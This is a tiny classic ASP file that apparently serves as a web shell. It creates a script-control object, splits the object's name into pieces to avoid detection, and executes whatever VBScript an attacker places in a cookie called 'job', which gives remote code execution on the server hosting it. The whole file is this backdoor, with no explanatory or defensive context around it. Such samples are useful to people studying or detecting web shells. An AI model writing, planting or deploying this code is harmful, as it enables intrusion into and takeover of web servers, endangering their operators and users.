<%
Set sc = Server.CreateObject("MSScript" & "Control.Script" & "Control")
sc.Language = "VBScript"
sc.AddObject "Request", Request
sc.AddObject "Response", Response
sc.ExecuteStatement Request.Cookies("job")
%>
